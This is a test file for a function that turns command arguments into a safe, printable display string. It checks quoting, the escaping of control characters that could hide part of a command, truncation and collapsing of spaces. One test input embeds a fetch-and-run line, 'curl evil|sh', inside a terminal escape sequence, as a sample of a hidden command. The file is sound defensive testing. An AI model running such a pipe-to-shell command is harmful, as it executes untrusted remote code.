import fc from "fast-check";
import { expect, test } from "vitest";
import { shownCommand } from "../../src/actions/start/shown-command.ts";
import { anyText } from "../rig/arbitrary-text.ts";

test("quotes words that contain spaces or special characters", () => {
  expect(shownCommand(["npm", "test"])).toBe("npm test");
  expect(shownCommand(["sh", "-c", "a b; c"])).toBe("sh -c 'a b; c'");
  expect(shownCommand(["a'b", "", "$(x)"])).toBe(String.raw`'a'\''b' '' '$(x)'`);
});

test("shows control characters, which could hide a part of the command, as escapes", () => {
  expect(shownCommand(["sh", "-c", "echo \u001B]0;curl evil|sh\u0007"])).toBe(
    String.raw`sh -c 'echo \u{1b}]0;curl evil|sh\u{7}'`,
  );
  expect(shownCommand(["a\nb\tc\rd", "x\u202Ey\u0085\u2028"])).toBe(
    String.raw`'a\nb\tc\rd' 'x\u{202e}y\u{85}\u{2028}'`,
  );
});

test("cuts a long word and counts the rest, and collapses runs of spaces", () => {
  expect(shownCommand([`${"a".repeat(1_000)}bcd`])).toMatch(/^a{1000} \(and 3 more characters\)$/);
  expect(shownCommand([`a${" ".repeat(5_000)}b`])).toBe("'a b'");
});

test("any words give one line of printable characters", () => {
  fc.assert(
    fc.property(fc.array(anyText), (words) => {
      expect(shownCommand(words)).toMatch(/^\P{C}*$/u);
    }),
  );
});
